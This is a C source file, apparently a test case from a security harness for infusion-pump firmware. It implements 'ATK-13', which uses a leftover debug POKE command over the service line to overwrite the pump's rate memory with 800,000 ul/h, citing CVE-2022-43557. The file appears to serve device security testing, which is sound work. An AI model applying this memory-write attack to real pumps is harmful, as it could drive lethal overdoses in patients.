// SPDX-License-Identifier: Apache-2.0
/*
 * ATK-13: memory is written through a debug command that was left in the product.
 *
 * The attacker has the service plug and the firmware, hence the addresses.
 */
#include "attack.h"

enum { RATE_ULH = 800000, FLOW_MS = 20 * 1000, ASK_MS = 500, TRIES = 3 };

static void run(struct attack *attack)
{
    static const uint8_t words[3] = {4, 4, 0};
    struct attack_state state;
    struct attack_line line;
    struct pump_frame reply;
    if (attack->options.platform == ATTACK_HOST) {
        attack_skip(attack, "a process has no address map worth attacking: runs on the target");
        return;
    }
    attack_therapy(attack, 1, 2000);
    attack_state(attack, &state);
    uint32_t rate_at = (uint32_t)attack_value(&state, "rate_at");
    attack_connect(attack, PUMP_LINE_SERVICE, &line);
    uint32_t refused = 0;
    for (int i = 0; i < TRIES; i++) {
        struct pump_frame poke =
            attack_frame(PUMP_CMD_POKE, words, (const uint32_t[3]){rate_at, RATE_ULH, 0});
        refused += attack_ask(attack, &line, &poke, ASK_MS, &reply) != PUMP_DONE;
        attack_wait(attack, 1000, &state);
    }
    attack_measure(attack, "writes_refused", refused);
    attack_wait(attack, FLOW_MS, &state);
    if (attack_value(&state, "rate") != 2000)
        attack_succeeds(attack, "rate in the essential function's memory, ul/h",
                        attack_value(&state, "rate"));
}

const struct attack_info attack_info = {
    "ATK-13", "memory write through a debug command",
    "BD BodyGuard 2022, CVE-2022-43557 (unauthenticated RS-232 interface)", run};
